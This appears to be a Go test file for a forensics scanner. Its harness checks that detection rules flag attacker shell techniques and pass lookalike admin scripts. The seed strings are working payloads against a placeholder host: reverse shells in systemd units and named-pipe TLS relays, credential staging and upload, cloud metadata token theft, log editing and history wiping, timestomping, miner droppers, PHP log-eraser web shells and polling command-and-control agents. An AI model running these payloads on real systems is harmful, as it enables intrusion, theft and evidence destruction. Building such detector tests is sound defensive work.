package shell

import (
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// The technique harness: reverse shells written into systemd units without sh -c, relays
// through a named pipe over TLS, credentials of every user staged for taking, instance
// metadata credentials fetched, selective log editing, history wiping and blanket
// timestomping, and polling agents spread over functions. Each seed of our own is also kept
// in a function called later and inside an if (shell scripts); every variant must be found
// by its rule at its severity, and the clean shapes beside them must raise none of the rules
// at high or above.
//
// go test ./audit/shell -run TestTechniqueHarness -v prints one line per technique:
//
//	harness: technique-<technique> <found>/<total> recall=<0.000>

var techniqueSeeds = []stealthSeed{
	// A unit's Exec line starting a shell with redirections and pipes as words of its own.
	{"unit-shell", RuleDevTCP, audit.Critical, "/etc/systemd/system/net-sync.service", "[Unit]\nDescription=sync\n[Service]\nExecStart=/bin/bash -i >& /dev/tcp/203.0.113.9/443 0>&1\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"},
	{"unit-shell", RuleDevTCP, audit.Critical, "/etc/systemd/system/dbus-cache.service", "[Service]\nEnvironment=H=203.0.113.9 P=8443\nExecStart=/usr/bin/bash -i &>/dev/tcp/${H}/${P} <&1\n"},
	{"unit-shell", RuleDevTCP, audit.Critical, "/lib/systemd/system/sys-mon.service", "[Service]\nType=simple\nExecStart=/bin/sh -i 2>&1 0</dev/tcp/203.0.113.9/4444 1>&0\n"},
	{"unit-shell", RuleDevTCP, audit.Critical, "/home/dev/.config/systemd/user/agent.service", "[Service]\nExecStart=bash -i > /dev/udp/203.0.113.9/53 0>&1 2>&1\n[Install]\nWantedBy=default.target\n"},
	{"unit-shell", RuleFifo, audit.Critical, "/etc/systemd/system/cachefs.service", "[Service]\nExecStartPre=/usr/bin/mkfifo /tmp/.p\nExecStart=/bin/sh -i 0</tmp/.p | /usr/bin/nc 203.0.113.9 443 1>/tmp/.p\n"},
	{"unit-shell", RuleNetPipe, audit.Critical, "/etc/systemd/system/cachefs.service", "[Service]\nExecStart=/bin/bash -i < /tmp/.q 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/.q\n"},

	// A shell looped through a named pipe and a TLS (or plain) client or relay.
	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/f"},
	{"fifo-relay", RuleFifo, audit.Critical, "", "F=/dev/shm/.s\nrm -f $F\nmknod $F p\nbash -i <$F 2>&1 | openssl s_client -quiet -connect 203.0.113.9:8443 >$F"},
	{"fifo-relay", RuleFifo, audit.Critical, "", "P=$(mktemp -u)\nmkfifo \"$P\"\ncat \"$P\" | /bin/bash 2>&1 | openssl s_client -quiet -connect \"203.0.113.9:443\" > \"$P\""},
	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/.io\n/bin/sh -i < /tmp/.io 2>&1 | ncat --ssl 203.0.113.9 443 > /tmp/.io"},
	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/.io\n/bin/sh -i < /tmp/.io 2>&1 | socat - OPENSSL:203.0.113.9:443,verify=0 > /tmp/.io"},
	{"fifo-relay", RuleFifo, audit.Critical, "", "H=203.0.113.9\nP=443\nD=/var/tmp/.d\nmkfifo $D\nsh -i < $D 2>&1 |\n  openssl s_client -quiet \\\n    -connect $H:$P > $D"},
	{"fifo-relay", RuleFifo, audit.Critical, "", "relay() {\n  mkfifo \"$1\"\n  /bin/sh -i < \"$1\" 2>&1 | openssl s_client -quiet -connect \"$2\" > \"$1\"\n}\nrelay /tmp/.r 203.0.113.9:443"},
	{"fifo-relay", RuleFifo, audit.Critical, "", "mknod /tmp/b p && openssl s_client -quiet -connect 203.0.113.9:443 0</tmp/b | /bin/bash 1>/tmp/b 2>&1"},
	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/.v; openssl s_server -quiet -accept 8443 -key k.pem -cert c.pem < /tmp/.v | /bin/sh -i > /tmp/.v 2>&1"},
	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/.g; gnutls-cli --insecure -p 443 203.0.113.9 < /tmp/.g | bash -i > /tmp/.g 2>&1"},
	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/.z; sh -i < /tmp/.z 2>&1 | socat STDIO OPENSSL-CONNECT:203.0.113.9:443,verify=0 > /tmp/.z"},
	{"fifo-relay", RuleFifo, audit.Critical, "", "exec 3<>/dev/null\nF=/run/user/0/.f\nmkfifo -m 600 \"$F\"\ntls() { openssl s_client -quiet -connect \"$1\" 2>/dev/null; }\nsh -i < \"$F\" 2>&1 | tls 203.0.113.9:443 > \"$F\""},
	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/t; cat /tmp/t | sh -i 2>&1 | openssl s_client -quiet -host 203.0.113.9 -port 443 > /tmp/t"},

	// Every user's credentials gathered into an archive or a place aside, nothing sent.
	{"cred-staging", RuleCredStage, audit.High, "", "mkdir -p /tmp/.s\nfor u in /home/*; do cp -r $u/.ssh /tmp/.s/$(basename $u) 2>/dev/null; done\ncp /root/.ssh/id_rsa /tmp/.s/root.key"},
	// server pages wiping logs and history through the shell (a log eraser among web shells)
	{"page-log-eraser", RuleLogWipe, audit.High, "/var/www/html/cl.php", "<?php\nif (isset($_POST['x'])) {\n  system('echo > /var/log/wtmp');\n  shell_exec('cat /dev/null > /var/log/lastlog');\n}\n"},
	{"page-log-eraser", RuleLogWipe, audit.High, "/var/www/html/up/l.php", "<?php\n$c = array('rm -f /root/.bash_history', 'rm -rf /var/log/*');\nforeach ($c as $x) { @passthru($x); }\nexec('sed -i \"/' . $_SERVER['REMOTE_ADDR'] . '/d\" /var/log/auth.log');\n"},
	{"page-log-eraser", RuleLogWipe, audit.High, "/srv/www/htdocs/z.php", "<?php\n@exec(\"find /home -name '.bash_history' -exec truncate -s0 {} \\\\;\");\n"},
	// passwords hunted for in files and histories (T1552.001), kept together
	{"cred-hunting", RuleCredStage, audit.High, "", "find / -name '*conf*.php' > /tmp/.h/l 2>/dev/null\nfor f in $(cat /tmp/.h/l); do grep -i pass \"$f\" >> /tmp/.h/out; done\ngrep pass ~/.bash_history >> /tmp/.h/out"},
	{"cred-hunting", RuleCredStage, audit.High, "", "grep -rIiE 'passw(or)?d|secret' /var/www /etc 2>/dev/null > /dev/shm/.p\ncat /root/.my.cnf >> /dev/shm/.p"},
	{"cred-hunting", RuleCredStage, audit.High, "", "O=/var/tmp/.r\ncat /etc/psa/.psa.shadow > $O\ncat /etc/mysql/debian.cnf >> $O"},
	{"cred-staging", RuleCredStage, audit.High, "", "find /home /root -name 'id_*' ! -name '*.pub' -exec cp --parents {} /var/tmp/.k/ \\;"},
	{"cred-staging", RuleCredStage, audit.High, "", "tar czf /tmp/.c.tgz /home/*/.ssh /root/.ssh /home/*/.aws /etc/shadow"},
	{"cred-staging", RuleCredStage, audit.High, "", "D=/dev/shm/.d; mkdir -p $D\nfor h in /home/* /root; do\n  n=$(basename $h)\n  cp $h/.ssh/id_* $D/$n.key 2>/dev/null\n  cp $h/.kube/config $D/$n.kube 2>/dev/null\ndone\nzip -qr /dev/shm/.d.zip $D"},
	{"cred-staging", RuleCredStage, audit.High, "", "OUT=/var/cache/.fc\nmkdir -p $OUT\ncat /etc/shadow > $OUT/s\ncat /root/.aws/credentials >> $OUT/a"},
	{"cred-staging", RuleCredStage, audit.High, "", "grab() { cp \"$1\" \"$2\" 2>/dev/null; }\nfor d in /home/*; do grab \"$d/.kube/config\" /opt/.cache/kube.$(basename $d); done"},
	{"cred-staging", RuleCredStage, audit.High, "", "find / -xdev -type f -name '.*_history' -exec tar rf /tmp/.h.tar {} +\nfind /home -name 'id_rsa' -exec tar rf /tmp/.h.tar {} +"},
	{"cred-staging", RuleCredStage, audit.High, "", "zip -r /tmp/.b.zip /home/*/.mozilla/firefox/*/logins.json /home/*/.mozilla/firefox/*/key4.db"},
	{"cred-staging", RuleCredStage, audit.High, "", "rsync -a /root/.ssh/ /home/*/.ssh/ /var/tmp/.bk/"},
	{"cred-staging", RuleCredSend, audit.Critical, "", "tar czf /tmp/.c.tgz /home/*/.ssh /root/.ssh\ncurl -s -F f=@/tmp/.c.tgz http://203.0.113.9/up"},

	// The metadata service's credentials (and user-data) fetched and kept or sent.
	{"imds-creds", RuleCredStage, audit.High, "", "R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$R > /tmp/.c"},
	{"imds-creds", RuleCredStage, audit.High, "", "TOK=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')\nM=http://169.254.169.254/latest/meta-data\nfor r in $(curl -s -H \"X-aws-ec2-metadata-token: $TOK\" $M/iam/security-credentials/); do\n  curl -s -H \"X-aws-ec2-metadata-token: $TOK\" $M/iam/security-credentials/$r -o /var/tmp/.$r\ndone"},
	{"imds-creds", RuleCredStage, audit.High, "", "T=$(curl -s -H 'Metadata-Flavor: Google' 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token')\necho \"$T\" >> /tmp/.gt"},
	{"imds-creds", RuleCredStage, audit.High, "", "wget -q -O /dev/shm/.az --header 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'"},
	{"imds-creds", RuleCredStage, audit.High, "", "H='http://[fd00:ec2::254]'\nROLE=$(curl -s $H/latest/meta-data/iam/security-credentials/)\ncurl -s $H/latest/meta-data/iam/security-credentials/$ROLE | tee /opt/.r.json"},
	{"imds-creds", RuleCredStage, audit.High, "", "curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/attributes/startup-script > /var/tmp/.ss\ncurl -s http://169.254.169.254/latest/user-data -o /var/tmp/.ud"},
	{"imds-creds", RuleCredSend, audit.Critical, "", "C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web)\ncurl -s -d \"$C\" https://203.0.113.9/c"},
	{"imds-creds", RuleCredSend, audit.High, "", "curl -s http://169.254.169.254/latest/user-data | curl -s -T - https://203.0.113.9/ud"},
	{"imds-creds", RuleCredSend, audit.Critical, "", "get() { curl -s -H 'Metadata-Flavor: Google' \"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/$1/token\"; }\nget default | nc 203.0.113.9 443"},

	// Login records and logs edited selectively, every user's history wiped, blanket timestomping.
	{"log-edit", RuleLogWipe, audit.High, "", "utmpdump /var/log/wtmp | grep -v 203.0.113.9 > /tmp/.w\nutmpdump -r < /tmp/.w > /var/log/wtmp"},
	{"log-edit", RuleLogWipe, audit.High, "", "W=/var/log/wtmp\nutmpdump $W > /dev/shm/.d\nsed -i '/sysd/d' /dev/shm/.d\nutmpdump -r -o $W /dev/shm/.d"},
	{"log-edit", RuleLogWipe, audit.High, "", "sed -i '/203\\.0\\.113\\.9/d' /var/log/auth.log"},
	{"log-edit", RuleLogWipe, audit.High, "", "for f in /var/log/wtmp /var/log/btmp; do perl -i -pe 's/sysd/root/g' $f; done"},
	{"log-edit", RuleLogWipe, audit.High, "", "IP=203.0.113.9\ngrep -v \"$IP\" /var/log/secure > /tmp/.s\nmv /tmp/.s /var/log/secure"},
	{"log-edit", RuleLogWipe, audit.High, "", "clean() {\n  grep -v \"$2\" \"$1\" > \"$1.n\"\n  cat \"$1.n\" > \"$1\"\n  rm -f \"$1.n\"\n}\nclean /var/log/auth.log 203.0.113.9"},
	{"log-edit", RuleLogWipe, audit.High, "", "L=/var/log/lastlog\ncp $L /tmp/.l\nsed -i 's/203.0.113.9/10.0.0.1/' /tmp/.l\ncp /tmp/.l $L"},
	{"log-edit", RuleLogWipe, audit.High, "", "awk '!/sysd/' /var/log/auth.log > /var/tmp/.a && install -m 640 /var/tmp/.a /var/log/auth.log"},
	// The machine readied for mining and cleared of rival miners.
	{"miner-dropper", RuleMinerPrep, audit.High, "", "sysctl -w vm.nr_hugepages=1280\npkill -f xmrig\npkill -f kinsing\ncurl -s http://203.0.113.9/x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x"},
	{"miner-dropper", RuleMinerPrep, audit.High, "", "echo 0 > /proc/sys/kernel/nmi_watchdog\nmodprobe msr\nps aux | grep -v grep | grep ':3333' | awk '{print $2}' | xargs kill -9"},
	{"miner-dropper", RuleMinerPrep, audit.High, "", "setenforce 0\nufw disable\ncp /usr/bin/wget /usr/bin/wd1\necho 'vm.nr_hugepages=128' >> /etc/sysctl.conf"},
	{"miner-dropper", RuleMinerPrep, audit.High, "", "kill_rivals() { killall -9 kdevtmpfsi kworkerds 2>/dev/null; }\nkill_rivals\nN=1024\necho $N > /proc/sys/vm/nr_hugepages"},
	// Login records emptied by a tool that then deletes itself.
	{"wipe-and-vanish", RuleLogWipe, audit.High, "", "> /var/log/wtmp\n> /var/log/btmp\nrm -f \"$0\""},
	{"wipe-and-vanish", RuleLogWipe, audit.High, "", "LOGS=(/var/log/wtmp /var/log/lastlog /var/log/auth.log)\nfor l in \"${LOGS[@]}\"; do\n  [ -f \"$l\" ] && > \"$l\"\ndone\nME=$(realpath \"$0\")\n(sleep 2; rm -f \"$ME\") &"},
	{"wipe-and-vanish", RuleLogWipe, audit.High, "", "cat /dev/null > /var/log/lastlog\nshred -u \"$(readlink -f \"$0\")\""},
	{"wipe-and-vanish", RuleLogWipe, audit.High, "", "for f in wtmp btmp lastlog; do : > /var/log/$f; done\nunlink $0"},
	{"history-wipe", RuleLogWipe, audit.High, "", "find /home /root -name '.*_history' -exec shred -u {} \\;"},
	{"history-wipe", RuleLogWipe, audit.High, "", "find / -xdev -type f -name '.bash_history' -delete"},
	{"history-wipe", RuleLogWipe, audit.High, "", "find /home -name '*history' -exec truncate -s 0 {} +"},
	{"history-wipe", RuleLogWipe, audit.High, "", "for h in /home/*/.bash_history /home/*/.zsh_history; do : > \"$h\"; done"},
	{"history-wipe", RuleLogWipe, audit.High, "", "rm -f /home/*/.bash_history /root/.bash_history"},
	{"history-wipe", RuleLogWipe, audit.High, "", "for u in $(ls /home); do ln -sf /dev/null /home/$u/.bash_history; done"},
	{"timestomp-blanket", RuleTimestomp, audit.High, "", "find / -xdev -newer /tmp/.start -exec touch -r /bin/ls {} \\;"},
	{"timestomp-blanket", RuleTimestomp, audit.High, "", "find /usr/lib /etc -mmin -30 -exec touch -d '2021-06-01 03:00' {} +"},
	{"timestomp-blanket", RuleTimestomp, audit.High, "", "REF=/etc/hostname\nfind /var/www -type f -newer $REF -exec touch -a -m -r $REF {} \\;"},
	{"timestomp-blanket", RuleTimestomp, audit.High, "", "find /opt -type f -exec touch -t 202101010000 {} \\;"},
	{"timestomp-blanket", RuleTimestomp, audit.High, "", "curl -so /tmp/.x/agent http://203.0.113.9/a\ntouch -r /bin/ls /tmp/.x/agent"},
	{"timestomp-blanket", RuleTimestomp, audit.High, "", "cp ./k /var/tmp/.cache/kd\nfor f in /var/tmp/.cache/kd; do touch --reference=/usr/bin/env \"$f\"; done"},

	// Polling agents with register, poll, run and report in functions of their own.
	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "C2=http://203.0.113.9/api\nreg() { curl -s -d \"h=$(hostname)&id=$(id -u)\" $C2/reg; }\npoll() { curl -s $C2/task; }\nsend() { curl -s -d \"$1\" $C2/res; }\nreg\nwhile true; do\n  t=$(poll)\n  [ -n \"$t\" ] && send \"$(eval \"$t\" 2>&1)\"\n  sleep $((RANDOM % 30 + 10))\ndone"},
	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "BASE='https://203.0.113.9:8443'\nID=''\nregister() {\n  ID=$(curl -sk -X POST -d \"host=$(hostname)&user=$(whoami)\" \"$BASE/register\")\n}\nfetch_task() {\n  curl -sk \"$BASE/tasks/$ID\"\n}\nrun_task() {\n  bash -c \"$1\" 2>&1\n}\nreport() {\n  curl -sk -X POST --data-binary @- \"$BASE/results/$ID\"\n}\nregister\nwhile :; do\n  task=$(fetch_task)\n  if [ -n \"$task\" ]; then\n    run_task \"$task\" | report\n  fi\n  sleep $(( (RANDOM % 20) + 5 ))\ndone"},
	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "U=http://203.0.113.9/b\nget() { wget -qO- \"$U/$1\"; }\nput() { wget -qO- --post-data=\"$2\" \"$U/$1\" >/dev/null; }\nexecute() { out=$(sh -c \"$1\" 2>&1); echo \"$out\"; }\nput hello \"$(uname -a)\"\nfor ((;;)); do\n  c=$(get cmd)\n  [ -z \"$c\" ] || put out \"$(execute \"$c\")\"\n  sleep 15\ndone"},
	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "H=203.0.113.9; P=8080; PROTO=http\nurl() { echo \"$PROTO://$H:$P/$1\"; }\npoll() { curl -s \"$(url q)\"; }\nrun() { $1 > /tmp/.o 2>&1; }\nupload() { curl -s -F \"f=@/tmp/.o\" \"$(url u)\"; }\ntick() { local c; c=$(poll); [ -n \"$c\" ] || return; run \"$c\"; upload; }\nwhile sleep $((5 + RANDOM % 7)); do tick; done"},
	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "api=http://203.0.113.9/v1\nnext_job() { curl -s \"$api/job\" -o /tmp/.j; }\ndo_job() { bash /tmp/.j > /tmp/.r 2>&1; }\nsend_back() { curl -s --data-binary @/tmp/.r \"$api/done\"; }\nloop() {\n  while true; do\n    next_job && do_job && send_back\n    sleep 20\n  done\n}\ncurl -s -d \"n=$(hostname)\" \"$api/hi\"\nloop &"},
	{"c2-functions", RuleHTTPAgent, audit.Critical, "", "srv=203.0.113.9\nbeacon() {\n  local r\n  r=$(curl -s \"http://$srv/b?i=$(cat /etc/machine-id)\")\n  echo \"$r\"\n}\nhandle() {\n  local res\n  res=$(eval \"$1\" 2>&1 | base64 -w0)\n  curl -s -d \"r=$res\" \"http://$srv/r\"\n}\nmain() {\n  while true; do\n    cmd=$(beacon)\n    test -n \"$cmd\" && handle \"$cmd\"\n    sleep $(shuf -i 10-60 -n 1)\n  done\n}\nmain"},
}

// Clean shapes: the same tools and places, the way clean software uses them.
var techniqueClean = []struct{ name, path, text string }{
	{"database huge pages", "/usr/local/bin/pg-tune.sh", "#!/bin/sh\nsysctl -w vm.nr_hugepages=2048\necho 'vm.nr_hugepages=2048' > /etc/sysctl.d/60-pg.conf\nsystemctl restart postgresql\n"},
	{"development box set-up", "/usr/local/bin/dev-setup.sh", "#!/bin/sh\nsetenforce 0\nufw disable\niptables -F\napt-get install -y build-essential\n"},
	{"installer removing itself", "/tmp/install.sh", "#!/bin/sh\ncp agent /usr/local/bin/agent\nsystemctl enable agent\nrm -f \"$0\"\n"},
	{"image clean-up of login records", "/usr/local/bin/cleanup.sh", "#!/bin/sh\napt-get clean\nrm -rf /var/lib/apt/lists/*\n> /var/log/wtmp\n> /var/log/lastlog\nrm -f /root/.bash_history\n"},
	{"page showing a log's tail", "/var/www/html/admin/logs.php", "<?php\necho '<pre>' . htmlspecialchars(shell_exec('tail -n 50 /var/log/apache2/error.log')) . '</pre>';\n"},
	{"own config checked for a password", "/usr/local/bin/app-check.sh", "#!/bin/sh\nif grep -q '^password' /etc/app/app.conf; then echo 'set'; fi\ngrep -r TODO /srv/app/src > /tmp/todo.txt\n"},
	{"plaintext password audit of an application", "/usr/local/bin/audit-conf.sh", "#!/bin/sh\nif grep -rl 'password=' /etc/app/; then echo 'plaintext passwords found' >&2; exit 1; fi\n"},
	{"unit running a script with its log", "/etc/systemd/system/app.service", "[Service]\nExecStart=/bin/bash /usr/lib/app/run.sh --log > /var/log/app.log\n"},
	{"unit with sh -c and a pipe", "/etc/systemd/system/app2.service", "[Service]\nExecStart=/bin/sh -c 'exec /usr/bin/app 2>&1 | logger -t app'\n"},
	{"unit with a shell that waits", "/lib/systemd/system/console-shell.service", "[Service]\nExecStart=-/bin/sh -c \"/bin/echo 'Starting shell'; exec /bin/bash\"\nStandardInput=tty\n"},
	{"openssl client check", "/usr/local/bin/check-cert.sh", "#!/bin/sh\necho | openssl s_client -connect example.com:443 -servername example.com 2>/dev/null | openssl x509 -noout -dates\n"},
	{"fifo for a log reader", "/usr/local/bin/logpipe.sh", "#!/bin/sh\nmkfifo /run/app/log.pipe\ncat /run/app/log.pipe | logger -t app &\nexec /usr/bin/app --log /run/app/log.pipe\n"},
	{"home backup", "/usr/local/bin/backup.sh", "#!/bin/sh\ntar czf /backup/home-$(date +%F).tgz /home\nrsync -a /home/ /srv/backup/home/\ncp -p /etc/shadow /var/backups/shadow.bak\n"},
	{"key installed for a user", "/usr/local/bin/add-key.sh", "#!/bin/sh\nmkdir -p /home/deploy/.ssh\ncp /tmp/deploy_key.pub /home/deploy/.ssh/authorized_keys\ncp /opt/keys/id_ed25519 /home/deploy/.ssh/id_ed25519\nchmod 600 /home/deploy/.ssh/id_ed25519\n"},
	{"root's keys given to a deploy account", "/usr/local/bin/provision.sh", "#!/bin/sh\nuseradd -m deploy\ncp -r /root/.ssh /home/deploy/\nchown -R deploy: /home/deploy/.ssh\n"},
	{"own key kept", "/usr/local/bin/keygen.sh", "#!/bin/sh\nssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519\ncat ~/.ssh/id_ed25519.pub > /tmp/pub.txt\n"},
	{"cloud-init-like read", "/usr/local/bin/instance-info.sh", "#!/bin/sh\nID=$(curl -s http://169.254.169.254/latest/meta-data/instance-id)\nHN=$(curl -s http://169.254.169.254/latest/meta-data/local-hostname)\necho \"$ID $HN\" > /etc/instance-info\ncurl -s http://169.254.169.254/latest/user-data > /var/lib/cloud/user-data.txt\n"},
	{"role credentials into the CLI's config", "/usr/local/bin/aws-env.sh", "#!/bin/sh\nR=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\nC=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$R)\nexport AWS_ACCESS_KEY_ID=$(echo \"$C\" | jq -r .AccessKeyId)\n"},
	{"image clean-up", "/usr/local/bin/cleanup.sh", "#!/bin/sh\napt-get clean\nrm -rf /var/lib/apt/lists/* /var/log/*\nrm -f /root/.bash_history\nhistory -c\n"},
	{"log rotation", "/etc/cron.daily/applog", "#!/bin/sh\nsavelog -c 7 /var/log/app.log\nlogrotate /etc/logrotate.conf\n"},
	{"log reader", "/usr/local/bin/failed.sh", "#!/bin/sh\ngrep 'Failed password' /var/log/auth.log > /tmp/failed.txt\nutmpdump /var/log/wtmp > /tmp/wtmp.txt\nlast -f /var/log/wtmp | head\n"},
	{"syslog copies beside it", "/usr/local/bin/keep.sh", "#!/bin/sh\ntail -n 1000 /var/log/syslog > /var/log/syslog.tmp\ncat /var/log/auth.log > /var/log/auth.log.1\ngrep -v DEBUG /var/log/messages > /var/log/messages.filtered\n"},
	{"own log trimmed", "/usr/local/bin/trim.sh", "#!/bin/sh\ntail -n 1000 /var/log/app/app.log > /var/log/app/app.log.tmp\nmv /var/log/app/app.log.tmp /var/log/app/app.log\n"},
	{"build tree dated", "/build/pkg/stamp.sh", "#!/bin/sh\nfind . -type f -exec touch -d @$SOURCE_DATE_EPOCH {} +\nfind build -newer build/stamp -exec touch -r configure.ac {} +\n"},
	{"own history", "/usr/local/bin/clean-me.sh", "#!/bin/sh\nrm -f ~/.bash_history\nfind /tmp -name '*.tmp' -delete\n"},
	{"health poller", "/usr/local/bin/health.sh", "#!/bin/sh\ncheck() { curl -sf http://127.0.0.1:8080/health; }\nreport() { curl -s -d \"status=$1\" https://monitor.example.com/api/status; }\nwhile true; do\n  if check >/dev/null; then report up; else report down; fi\n  sleep 30\ndone\n"},
	{"config fetcher", "/usr/local/bin/sync-conf.sh", "#!/bin/sh\nfetch() { curl -s https://config.example.com/app.conf -o /etc/app/app.conf; }\nwhile :; do\n  fetch && systemctl reload app\n  sleep 300\ndone\n"},
}

func TestTechniqueHarness(t *testing.T) {
	seedRecall(t, "technique-", techniqueSeeds)
	for _, c := range techniqueClean {
		for _, f := range scanFile(c.path, c.text) {
			if f.Severity >= audit.High {
				t.Errorf("clean %s: %s %s %s [%s]", c.name, f.Rule, f.Severity, f.Title, f.Evidence)
			}
		}
	}
}
